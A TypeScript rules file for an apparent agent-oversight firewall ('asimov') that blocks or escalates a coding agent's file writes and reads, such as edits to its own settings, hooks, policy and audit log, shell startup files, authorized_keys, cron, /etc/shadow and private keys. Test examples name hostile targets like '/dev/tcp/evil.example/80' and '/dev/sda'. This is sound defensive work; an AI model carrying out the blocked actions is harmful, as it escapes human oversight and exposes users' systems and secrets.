// Built-in rules: files family. Writes, edits and reads by file tools (and MCP file arguments), judged by path class.

import type { ToolCall } from '../../core/types.ts';
import { extractPaths, INTERNAL_TOOLS, mcpRequestKind } from '../../core/tools.ts';
import type { PathClass, PathInfo } from '../paths.ts';
import { defineToolRule, type Rule, type RuleContext, type RuleHit } from '../rule.ts';
import { toolPath } from '../tool-paths.ts';
import { judgeSettingsWrite } from '../settings-change.ts';
import { MCP_FILE_READ_TOOLS, MCP_FILE_WRITE_TOOLS, mcpNameOf, mcpPathArgs, mcpResourcePaths, mcpToolVerb } from './mcp.ts';

export type FileAccess = 'write' | 'read';

/** One path a call touches, how, and whether an allow rule may vouch for it. */
export interface FileTarget {
  info: PathInfo;
  access: FileAccess;
  /**
   * False for paths found in the arguments of an MCP tool that is not a known file tool: such a path can
   * make the call stricter (a `~/.bashrc` anywhere in its arguments) but never allow it, and it is not
   * held to "inside the project" (an API route `/repos/x` is not a file outside the project).
   */
  vouch: boolean;
}

/** Web search tools: `search` kind, but they read no file (web.ts allows them). */
export const WEB_SEARCH_TOOLS: ReadonlySet<string> = new Set(['WebSearch', 'google_web_search', 'web_search', 'websearch']);

/**
 * The file paths of a call. write/edit tools write their paths; read/search tools read theirs; an MCP
 * tool reads its path arguments when its name only reads, and writes them otherwise (the conservative side).
 */
export function fileTargets(call: ToolCall, ctx: RuleContext): FileTarget[] {
  const tool = call.tool;
  if (tool === 'write' || tool === 'edit') {
    // Literal: no client expands globs or variables in a file tool's path (`app/[id]/page.tsx` is Next.js's
    // route file, `routes/$noteId.tsx` Remix's).
    return extractPaths(tool, call.input).map((p) => ({ info: toolPath(call, ctx, p), access: 'write', vouch: true }));
  }
  if (tool === 'read') {
    return extractPaths(tool, call.input).map((p) => ({ info: toolPath(call, ctx, p), access: 'read', vouch: true }));
  }
  if (tool === 'search' && !isWebSearch(call)) {
    // Search tools take globs (`src/**/*.ts`): what they may reach is the glob's.
    return extractPaths(tool, call.input).map((p) => ({ info: ctx.path(p), access: 'read', vouch: true }));
  }
  if (tool === 'mcp') {
    const name = mcpNameOf(call);
    if (!name) return [];
    // A resources/read reads the local file its URI names, like Read; a prompt or completion only reads.
    const resource = mcpResourcePaths(call);
    if (resource !== null) return resource.map((p) => ({ info: ctx.path(p), access: 'read', vouch: true }));
    if (mcpRequestKind(name.tool) !== null) return mcpPathArgs(call.input).map((p) => ({ info: ctx.path(p), access: 'read', vouch: false }));
    const fileRead = MCP_FILE_READ_TOOLS.includes(name.tool);
    const fileWrite = MCP_FILE_WRITE_TOOLS.includes(name.tool);
    const access: FileAccess = fileRead || (!fileWrite && mcpToolVerb(name.tool) === 'read') ? 'read' : 'write';
    const vouch = fileRead || fileWrite;
    return mcpPathArgs(call.input).map((p) => ({ info: ctx.path(p), access, vouch }));
  }
  return [];
}

export function isWebSearch(call: ToolCall): boolean {
  if (call.clientTool !== undefined) return WEB_SEARCH_TOOLS.has(call.clientTool);
  // Without the client's name (CLI, HTTP API): a `search` with a query and no path is a web search.
  return call.tool === 'search' && typeof call.input['query'] === 'string' && extractPaths('search', call.input).length === 0;
}

/** A rule over the paths of one access kind: matches on the first path with any of `classes`. */
function pathRule(
  access: FileAccess,
  classes: readonly PathClass[],
  describe: (t: FileTarget) => string,
  extra?: (t: FileTarget) => boolean,
): (call: ToolCall, ctx: RuleContext) => RuleHit | null {
  return (call, ctx) => {
    for (const t of fileTargets(call, ctx)) {
      if (t.access !== access) continue;
      if (!classes.some((c) => t.info.classes.has(c))) continue;
      if (extra && !extra(t)) continue;
      return { subject: t.info.input, reason: describe(t) };
    }
    return null;
  };
}

const FILE_TOOLS = ['write', 'edit', 'read', 'search', 'mcp'] as const;
const WRITE_TOOLS = ['write', 'edit', 'mcp'] as const;
const READ_TOOLS = ['read', 'search', 'mcp'] as const;

const shown = (t: FileTarget) => (t.info.abs && t.info.abs !== t.info.input ? `${t.info.input} (${t.info.abs})` : t.info.input);

/** Frontmatter keys by which an instruction file (slash command, subagent, skill) grants tools or hooks. */
const GRANT_KEY = /^[ \t]*(allowed-tools|allowedTools|allowed_tools|permissionMode|permission-mode|hooks|mcpServers|mcp-servers)[ \t]*:/m;

/**
 * The permission-granting key a write puts into an instruction file's frontmatter, or null. A Write is read
 * in its leading `---` block; an edit's new text counts when it adds such a key line its old text lacked
 * (where in the file the edit lands is not known here; a key line is frontmatter-shaped enough to ask).
 */
export function grantedInFrontmatter(call: ToolCall): string | null {
  const input = call.input;
  const content = input['content'] ?? input['new_source'];
  if (typeof content === 'string') {
    const fm = /^\uFEFF?---\r?\n([\s\S]*?)\r?\n---/.exec(content);
    return fm ? (GRANT_KEY.exec(fm[1]!)?.[1] ?? null) : null;
  }
  const pairs: [unknown, unknown][] = [[input['old_string'], input['new_string']]];
  const edits = input['edits'];
  if (Array.isArray(edits)) for (const e of edits) if (e && typeof e === 'object') pairs.push([(e as Record<string, unknown>)['old_string'] ?? (e as Record<string, unknown>)['oldText'], (e as Record<string, unknown>)['new_string'] ?? (e as Record<string, unknown>)['newText']]);
  for (const [oldText, newText] of pairs) {
    if (typeof newText !== 'string') continue;
    const added = GRANT_KEY.exec(newText)?.[1];
    if (added !== undefined && !(typeof oldText === 'string' && new RegExp(`^[ \\t]*${added}[ \\t]*:`, 'm').test(oldText))) return added;
  }
  return null;
}

/** Paths in /etc whose contents are password hashes: readable only to break them. */
const SYSTEM_SECRET_FILES = /^\/(?:private\/)?etc\/(?:shadow|gshadow|master\.passwd)-?$/;

export const rules: Rule[] = [
  defineToolRule({
    id: 'file.write-agent-instructions',
    // soft_deny: instruction and memory files (CLAUDE.md, AGENTS.md, .cursor/rules, slash commands, skills) are
    // what users ask agents to edit, so a person confirms rather than a hard refusal; but what an agent reads
    // as standing orders deserves a look. hard_deny when the change grants permissions through frontmatter
    // (`allowed-tools`, `permissionMode`, `hooks`, `mcpServers`): that changes what the agent may do.
    tier: 'hard_deny',
    reason: 'This changes the agent\'s standing instructions (CLAUDE.md, AGENTS.md, rules, commands); confirm with the user.',
    tools: WRITE_TOOLS,
    match(call, ctx) {
      for (const t of fileTargets(call, ctx)) {
        if (t.access !== 'write' || !t.info.classes.has('agent-instructions')) continue;
        const grant = grantedInFrontmatter(call);
        if (grant !== null) return { subject: t.info.input, reason: `${shown(t)} would grant the agent \`${grant}\` through its frontmatter; permissions are the user's to give. Tell the user what to change instead.` };
        return { tier: 'soft_deny', subject: t.info.input, reason: `${shown(t)} holds the agent's standing instructions; confirm the change with the user.` };
      }
      return null;
    },
    examples: {
      match: [
        { tool: 'Edit', input: { file_path: '/home/dev/project/CLAUDE.md', old_string: 'a', new_string: 'b' } },
        { tool: 'Write', input: { file_path: 'sub/AGENTS.md', content: '# Notes' } },
        { tool: 'Write', input: { file_path: '.cursor/rules/style.mdc', content: 'Use tabs.' } },
        { tool: 'Write', input: { file_path: '.claude/commands/ship.md', content: '---\nallowed-tools: Bash(git push:*)\n---\nPush it.' } },
      ],
      notMatch: [
        { tool: 'Write', input: { file_path: 'docs/claude-notes.md', content: '' } },
        { tool: 'Write', input: { file_path: '.claude/settings.json', content: '{}' } },
        { tool: 'Read', input: { file_path: 'CLAUDE.md' } },
      ],
    },
  }),
  defineToolRule({
    id: 'file.write-agent-config',
    // hard_deny: an agent rewriting its own hooks, settings, permissions or MCP servers is the classic
    // self-modification; whatever it wants there, the user makes that change, not the agent. soft_deny only
    // for a JSON settings file (Claude Code, Gemini CLI, OpenCode) when the file before and after the call,
    // parsed strictly, differ in display and conversation preferences alone (settings-change.ts: a theme
    // change is not a hook). Not allow: an agent skips a settings file that fails its schema whole, hooks and
    // deny rules included, so even a harmless key gets a person's look.
    tier: 'hard_deny',
    reason: 'Agent configuration (hooks, settings, permissions, MCP servers) is off-limits to the agent; tell the user what to change instead.',
    tools: WRITE_TOOLS,
    match(call, ctx) {
      let soft: RuleHit | null = null;
      for (const t of fileTargets(call, ctx)) {
        if (t.access !== 'write' || !t.info.classes.has('agent-config')) continue;
        const verdict = judgeSettingsWrite(call, t.info, ctx);
        if (!verdict.harmless) {
          const why = verdict.settingsFile ? ` It is not judged a preference change: ${verdict.why}.` : '';
          return { subject: t.info.input, reason: `${shown(t)} is agent configuration (hooks, settings, permissions, MCP servers); an agent may not change its own rules.${why} Tell the user what to change instead.` };
        }
        const keys = verdict.keys.length > 0 ? verdict.keys.map((k) => `\`${k}\``).join(', ') : 'nothing but formatting';
        soft ??= { tier: 'soft_deny', subject: t.info.input, reason: `${shown(t)} is ${verdict.agent}'s settings; this changes ${keys} only (display and conversation preferences). Confirm with the user.` };
      }
      return soft;
    },
    examples: {
      match: [
        { tool: 'Write', input: { file_path: '.claude/settings.json', content: '{"hooks":{}}' } },
        { tool: 'write_file', input: { file_path: '~/.gemini/settings.json', content: '{"mcpServers":{}}' } },
        { tool: 'Write', input: { file_path: '.claude/hooks/pre.sh', content: '' } },
        { tool: 'mcp__filesystem__write_file', input: { path: '/home/dev/project/.mcp.json', content: '{}' } },
      ],
      notMatch: [
        { tool: 'Read', input: { file_path: 'CLAUDE.md' } },
        { tool: 'Write', input: { file_path: 'docs/claude-notes.md', content: '' } },
        { tool: 'Write', input: { file_path: 'src/index.ts', content: '' } },
      ],
    },
  }),
  defineToolRule({
    id: 'file.write-asimov-config',
    // hard_deny: the firewall's own policy and audit log; an agent that can edit them can switch asimov off.
    tier: 'hard_deny',
    reason: "asimov's own policy and audit log are off-limits to the agent; tell the user what to change instead.",
    tools: WRITE_TOOLS,
    match: pathRule('write', ['asimov-config'], (t) => `${shown(t)} is asimov's own configuration or audit log; an agent may not change the rules it is checked by.`),
    examples: {
      match: [
        { tool: 'Write', input: { file_path: '.asimov/policy.yaml', content: 'rules: []' } },
        { tool: 'Edit', input: { file_path: '~/.config/asimov/policy.yaml', old_string: 'a', new_string: 'b' } },
        { tool: 'Write', input: { file_path: '/home/dev/.local/state/asimov/audit.jsonl', content: '' } },
      ],
      notMatch: [
        { tool: 'Read', input: { file_path: '.asimov/policy.yaml' } },
        { tool: 'Write', input: { file_path: 'docs/asimov.md', content: '' } },
      ],
    },
  }),
  defineToolRule({
    id: 'file.write-shell-init',
    // hard_deny: shell startup files run in every future shell of the user, outside any agent session.
    tier: 'hard_deny',
    reason: 'Shell startup files run in every future shell; the agent may not change them. Tell the user the line to add instead.',
    tools: WRITE_TOOLS,
    match: pathRule('write', ['shell-init'], (t) => `${shown(t)} is a shell startup file: it runs in every future shell. Tell the user the line to add instead.`),
    examples: {
      match: [
        { tool: 'Write', input: { file_path: '~/.bashrc', content: 'export X=1' } },
        { tool: 'Edit', input: { file_path: '/home/dev/.zshrc', old_string: 'a', new_string: 'b' } },
        { tool: 'Write', input: { file_path: '/etc/profile.d/x.sh', content: '' } },
      ],
      notMatch: [
        { tool: 'Read', input: { file_path: '~/.bashrc' } },
        { tool: 'Write', input: { file_path: 'scripts/bashrc.example', content: '' } },
      ],
    },
  }),
  defineToolRule({
    id: 'file.write-persistence',
    // hard_deny: authorized_keys, cron, systemd and launchd units, sudoers, git config: ways to run code or
    // log in later, after the session ends, which no coding task needs an agent to set up unasked.
    tier: 'hard_deny',
    reason: 'This file makes something run or grants access later (keys, cron, services, sudoers, git config); the agent may not change it.',
    tools: WRITE_TOOLS,
    match: pathRule('write', ['persistence'], (t) => `${shown(t)} grants access or runs code later (keys, cron, services, sudoers, git config); the agent may not change it. Tell the user what to set up instead.`),
    examples: {
      match: [
        { tool: 'Write', input: { file_path: '~/.ssh/authorized_keys', content: 'ssh-ed25519 AAAA' } },
        { tool: 'Write', input: { file_path: '/etc/cron.d/job', content: '* * * * * root x' } },
        { tool: 'Edit', input: { file_path: '~/.gitconfig', old_string: 'a', new_string: 'b' } },
        { tool: 'Write', input: { file_path: '~/.config/systemd/user/x.service', content: '' } },
      ],
      notMatch: [
        { tool: 'Read', input: { file_path: '~/.gitconfig' } },
        { tool: 'Write', input: { file_path: 'deploy/x.service', content: '' } },
      ],
    },
  }),
  defineToolRule({
    id: 'file.write-system',
    // hard_deny: system directories belong to the OS and package manager; a coding agent has no business there.
    tier: 'hard_deny',
    reason: 'System directories belong to the operating system; the agent may not write there.',
    tools: WRITE_TOOLS,
    match: pathRule('write', ['system', 'root'], (t) => `${shown(t)} is in a system directory; the agent may not write there. Tell the user what to change instead.`),
    examples: {
      match: [
        { tool: 'Write', input: { file_path: '/etc/hosts', content: '' } },
        { tool: 'Write', input: { file_path: '/usr/local/bin/tool', content: '' } },
        { tool: 'mcp__filesystem__write_file', input: { path: '/etc/passwd', content: '' } },
      ],
      notMatch: [
        { tool: 'Read', input: { file_path: '/etc/hosts' } },
        { tool: 'Write', input: { file_path: 'etc/hosts', content: '' } },
      ],
    },
  }),
  defineToolRule({
    id: 'file.write-device',
    // hard_deny: writing a raw disk or memory device destroys data below the file system.
    tier: 'hard_deny',
    reason: 'Writing a device file (a disk, memory, a socket) is never part of a coding task.',
    tools: WRITE_TOOLS,
    match: pathRule('write', ['device'], (t) => `${shown(t)} is a device; writing it can destroy a disk or reach the network.`),
    examples: {
      match: [
        { tool: 'Write', input: { file_path: '/dev/sda', content: '' } },
        { tool: 'Write', input: { file_path: '/dev/tcp/evil.example/80', content: 'x' } },
      ],
      notMatch: [
        { tool: 'Write', input: { file_path: '/dev/null', content: '' } },
        { tool: 'Write', input: { file_path: 'dev/sda.txt', content: '' } },
      ],
    },
  }),
  defineToolRule({
    id: 'file.write-credentials',
    // soft_deny: a project's .env or a test certificate is sometimes written legitimately; ~/.aws never is,
    // but both are worth a person's look.
    tier: 'soft_deny',
    reason: 'This file holds credentials or secrets; a person has to confirm the change.',
    tools: WRITE_TOOLS,
    match: pathRule('write', ['credentials'], (t) => `${shown(t)} holds credentials or secrets; a person has to confirm the change.`),
    examples: {
      match: [
        { tool: 'Write', input: { file_path: '.env', content: 'KEY=1' } },
        { tool: 'Write', input: { file_path: '~/.aws/credentials', content: '' } },
        { tool: 'Write', input: { file_path: 'certs/server.key', content: '' } },
      ],
      notMatch: [
        { tool: 'Write', input: { file_path: '.env.example', content: 'KEY=' } },
        { tool: 'Read', input: { file_path: '.env' } },
      ],
    },
  }),
  defineToolRule({
    id: 'file.write-git-internals',
    // soft_deny: .git/hooks and .git/config run code on the next git command; the rest of .git is the
    // repository's history. Editing them by hand is rare but not always wrong.
    tier: 'soft_deny',
    reason: "Files under .git (hooks, config, history) control what git runs and keeps; use git commands instead, or ask a person.",
    tools: WRITE_TOOLS,
    match: pathRule('write', ['git-internals'], (t) => `${shown(t)} is inside .git (hooks and config run code on the next git command); use git commands instead.`),
    examples: {
      match: [
        { tool: 'Write', input: { file_path: '.git/hooks/pre-commit', content: '#!/bin/sh' } },
        { tool: 'Edit', input: { file_path: '.git/config', old_string: 'a', new_string: 'b' } },
      ],
      notMatch: [
        { tool: 'Write', input: { file_path: '.gitignore', content: 'node_modules' } },
        { tool: 'Read', input: { file_path: '.git/config' } },
      ],
    },
  }),
  defineToolRule({
    id: 'file.write-protected',
    // soft_deny: the policy's own list of paths its author wants a person to see changes to.
    tier: 'soft_deny',
    reason: "This path is protected by the project's policy; a person has to confirm the change.",
    tools: WRITE_TOOLS,
    match: pathRule('write', ['protected'], (t) => `${shown(t)} is a protected path in the policy; a person has to confirm the change.`),
    examples: {
      match: [
        // Protected paths come from the policy; the example machine has none, so the match example carries
        // a path the test context protects (see test/policy/rules/files.test.ts).
        { tool: 'Write', input: { file_path: 'migrations/001.sql', content: '' } },
      ],
      notMatch: [{ tool: 'Write', input: { file_path: 'src/a.ts', content: '' } }],
    },
  }),
  defineToolRule({
    id: 'file.write-outside-project',
    // soft_deny: outside the project (and not a temp dir) is someone else's space; often a mistake, sometimes
    // wanted (a sibling checkout), so a person decides.
    tier: 'soft_deny',
    reason: 'This write lands outside the project; a person has to confirm it (temp directories are fine).',
    tools: WRITE_TOOLS,
    match: pathRule(
      'write',
      ['outside'],
      (t) => `${shown(t)} is outside the project; a person has to confirm writes there (temp directories are fine).`,
      // The agent's own plan files (~/.claude/plans) are its scratch paper, wherever they sit.
      (t) => t.vouch && !t.info.classes.has('null-device') && !t.info.classes.has('agent-plan'),
    ),
    examples: {
      match: [
        { tool: 'Write', input: { file_path: '/home/dev/other/x.txt', content: '' } },
        { tool: 'Write', input: { file_path: '../project-evil/x.txt', content: '' } },
      ],
      notMatch: [
        { tool: 'Write', input: { file_path: '/tmp/scratch.txt', content: '' } },
        { tool: 'Write', input: { file_path: 'src/x.ts', content: '' } },
        { tool: 'Write', input: { file_path: '/dev/null', content: '' } },
      ],
    },
  }),
  defineToolRule({
    id: 'file.write-dynamic',
    // unknown: the path depends on a variable or a glob in a parent directory, so where it lands is not
    // known until run time.
    tier: 'unknown',
    reason: 'Where this write lands is only known at run time; a person has to decide.',
    tools: WRITE_TOOLS,
    match: pathRule('write', ['dynamic'], (t) => `${t.info.input} depends on run-time values; where it lands cannot be checked.`, (t) => t.vouch),
    examples: {
      // An MCP server's path argument may be anything the server makes of it; a client's own file tool takes
      // its path literally (no client expands globs or variables there: Next.js `[id]`, Remix `$id` files).
      match: [
        { tool: 'mcp__filesystem__write_file', input: { path: '$OUT/x.txt', content: '' } },
        { tool: 'mcp__filesystem__write_file', input: { path: 'src/*/index.ts', content: '' } },
      ],
      notMatch: [
        { tool: 'Write', input: { file_path: '$HOME/project/x.txt', content: '' } },
        { tool: 'Write', input: { file_path: 'app/[id]/page.tsx', content: '' } },
        { tool: 'Write', input: { file_path: 'app/routes/$noteId.tsx', content: '' } },
      ],
    },
  }),
  defineToolRule({
    id: 'file.write-project',
    // allow: writing and editing files inside the project (or a temp dir) is what a coding agent is for.
    tier: 'allow',
    reason: 'Writing inside the project is routine.',
    tools: WRITE_TOOLS,
    match(call, ctx) {
      const targets = fileTargets(call, ctx);
      if (targets.length === 0 || targets.some((t) => !t.vouch || t.access !== 'write')) return null;
      const ok = targets.every(
        // The null device discards what is written (agents write an empty /dev/null to probe the tool).
        (t) => !t.info.classes.has('dynamic') && (t.info.classes.has('project') || t.info.classes.has('temp') || t.info.classes.has('agent-plan') || t.info.classes.has('null-device')),
      );
      return ok ? { subject: targets.map((t) => t.info.input).join(', ') } : null;
    },
    examples: {
      match: [
        { tool: 'Write', input: { file_path: 'src/index.ts', content: '' } },
        { tool: 'Edit', input: { file_path: '/home/dev/project/README.md', old_string: 'a', new_string: 'b' } },
        { tool: 'apply_patch', input: { input: '*** Begin Patch\n*** Update File: src/a.ts\n@@\n-a\n+b\n*** End Patch' } },
        { tool: 'Write', input: { file_path: '/tmp/out.txt', content: '' } },
      ],
      notMatch: [
        { tool: 'Write', input: { file_path: '/home/dev/other/x.txt', content: '' } },
        { tool: 'mcp__filesystem__write_file', input: { path: '$X/a.txt', content: '' } },
        { tool: 'Write', input: { content: 'no path' } },
        { tool: 'mcp__github__create_or_update_file', input: { path: 'src/a.ts', content: '' } },
      ],
    },
  }),
  defineToolRule({
    id: 'file.read-credentials',
    // soft_deny: reading a private key or .env puts secrets into the model's context (and from there
    // anywhere); sometimes needed for debugging, so a person decides.
    tier: 'soft_deny',
    reason: 'This file holds credentials or secrets; reading it puts them in the conversation. A person has to confirm.',
    tools: READ_TOOLS,
    // A raw device (a disk, memory) holds every file's bytes, secrets included, as the shell rule says of `strings /dev/mem`.
    match: pathRule('read', ['credentials', 'device'], (t) => `${shown(t)} holds credentials or secrets (or is a raw device holding everyone's); reading it puts them in the conversation. A person has to confirm.`),
    examples: {
      match: [
        { tool: 'Read', input: { file_path: '/dev/sda' } },
        { tool: 'Read', input: { file_path: '~/.ssh/id_rsa' } },
        { tool: 'Read', input: { file_path: '.env' } },
        { tool: 'Grep', input: { pattern: 'KEY', path: '/home/dev/.aws' } },
        { tool: 'mcp__filesystem__read_file', input: { path: '/home/dev/.netrc' } },
      ],
      notMatch: [
        { tool: 'Read', input: { file_path: '~/.ssh/id_rsa.pub' } },
        { tool: 'Read', input: { file_path: '.env.example' } },
        { tool: 'Write', input: { file_path: '.env', content: '' } },
      ],
    },
  }),
  defineToolRule({
    id: 'file.read-system-secrets',
    // hard_deny: /etc/shadow and friends hold every account's password hash; no coding task reads them.
    tier: 'hard_deny',
    reason: 'The system password database is never needed for a coding task.',
    tools: READ_TOOLS,
    match(call, ctx) {
      for (const t of fileTargets(call, ctx)) {
        if (t.access === 'read' && t.info.abs !== null && SYSTEM_SECRET_FILES.test(t.info.abs)) {
          return { subject: t.info.input, reason: `${shown(t)} holds the system's password hashes; no coding task reads it.` };
        }
      }
      return null;
    },
    examples: {
      match: [
        { tool: 'Read', input: { file_path: '/etc/shadow' } },
        { tool: 'read_file', input: { absolute_path: '/etc/gshadow' } },
      ],
      notMatch: [
        { tool: 'Read', input: { file_path: '/etc/passwd' } },
        { tool: 'Read', input: { file_path: 'fixtures/etc/shadow' } },
      ],
    },
  }),
  defineToolRule({
    id: 'file.read',
    // allow: reading and searching files changes nothing; secrets are caught by file.read-credentials.
    tier: 'allow',
    reason: 'Reading or searching files changes nothing.',
    tools: FILE_TOOLS,
    match(call, ctx) {
      if (call.tool !== 'read' && call.tool !== 'search' && call.tool !== 'mcp') return null;
      if (call.tool === 'search' && isWebSearch(call)) return null;
      const targets = fileTargets(call, ctx);
      if (call.tool === 'mcp') {
        // Only the known file servers' read tools: other MCP tools are judged by mcp.call.
        const name = mcpNameOf(call);
        if (!name || !MCP_FILE_READ_TOOLS.includes(name.tool) || targets.length === 0) return null;
      }
      if (call.tool === 'read' && targets.length === 0) return null;
      if (targets.some((t) => t.access !== 'read' || t.info.classes.has('dynamic'))) return null;
      if (targets.some((t) => t.info.classes.has('credentials'))) return null;
      return targets.length > 0 ? { subject: targets.map((t) => t.info.input).join(', ') } : true;
    },
    examples: {
      match: [
        { tool: 'Read', input: { file_path: 'src/index.ts' } },
        { tool: 'Read', input: { file_path: '/etc/hosts' } },
        { tool: 'Grep', input: { pattern: 'TODO' } },
        { tool: 'Glob', input: { pattern: '**/*.ts' } },
        { tool: 'LS', input: { path: '/home/dev/project' } },
        { tool: 'read_many_files', input: { paths: ['a.ts', 'b.ts'] } },
        { tool: 'mcp__filesystem__read_text_file', input: { path: '/home/dev/project/README.md' } },
      ],
      notMatch: [
        { tool: 'Read', input: { file_path: '~/.ssh/id_rsa' } },
        { tool: 'Read', input: {} },
        { tool: 'WebSearch', input: { query: 'node fs api' } },
        { tool: 'Write', input: { file_path: 'a.ts', content: '' } },
      ],
    },
  }),
  defineToolRule({
    id: 'tool.internal',
    // allow: the client's own bookkeeping tools (plans, to-do lists, sub-agents whose calls pass the gate
    // again) touch nothing outside the session.
    tier: 'allow',
    reason: "The client's own planning and bookkeeping tools change nothing outside the session.",
    tools: [...INTERNAL_TOOLS],
    match: (call) => INTERNAL_TOOLS.has(call.tool),
    examples: {
      match: [
        { tool: 'TodoWrite', input: { todos: [] } },
        { tool: 'Task', input: { description: 'x', prompt: 'y' } },
        { tool: 'ExitPlanMode', input: { plan: 'p' } },
      ],
      notMatch: [
        { tool: 'save_memory', input: { fact: 'x' } },
        { tool: 'SomethingNew', input: {} },
      ],
    },
  }),
];
